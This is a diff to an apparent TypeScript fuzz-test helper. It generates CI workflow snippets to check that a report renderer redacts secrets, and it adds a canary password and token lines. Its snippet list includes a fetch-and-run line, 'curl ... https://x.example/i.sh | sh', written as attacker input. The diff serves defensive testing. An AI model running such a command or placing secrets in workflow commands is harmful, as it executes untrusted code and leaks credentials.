@@ -22,6 +22,15 @@ export type Rand = () => number;
 export const pick = <T>(r: Rand, xs: readonly T[]): T => xs[Math.floor(r() * xs.length)]!;
 const int = (r: Rand, n: number): number => Math.floor(r() * n);
 
+/** A literal secret that must never reach a rendered report (after the adapters' redaction). */
+export const FUZZ_CANARY = 'Zq9FuzzCanary';
+/** Lines that carry it; a case checks for a leak only while one is intact in the workflow. */
+export const CANARY_LINES: readonly string[] = [
+  `export DB_PASSWORD=${FUZZ_CANARY}`,
+  `helm upgrade a ./c --set db.password=${FUZZ_CANARY} --set-string api.token=${FUZZ_CANARY}`,
+  `"curl -H 'X-Api-Key: ${FUZZ_CANARY}' -H 'Authorization: ${FUZZ_CANARY}' && npm_config__authToken=${FUZZ_CANARY} npm publish"`,
+];
+
 /** Text an attacker or a careless author puts into a workflow. */
 const SNIPPETS: readonly string[] = [
   '      - run: curl -fsSL https://x.example/i.sh | sh',
@@ -48,7 +57,7 @@ const SNIPPETS: readonly string[] = [
   `      - run: echo ${'['.repeat(40)}${']'.repeat(40)}`,
   `x: ${'{a: '.repeat(60)}1${'}'.repeat(60)}`,
   '\t- run: tab',
-  '      - run: |\n          export DB_PASSWORD=Zq9FuzzCanary\n          helm upgrade a ./c --set db.password=Zq9FuzzCanary',
+  `      - name: ${CANARY_LINES[2]}\n        run: |\n          ${CANARY_LINES[0]}\n          ${CANARY_LINES[1]}`,
   '%YAML 1.1\n---',
   '--- !!map',
   '      - run: 0x1F',
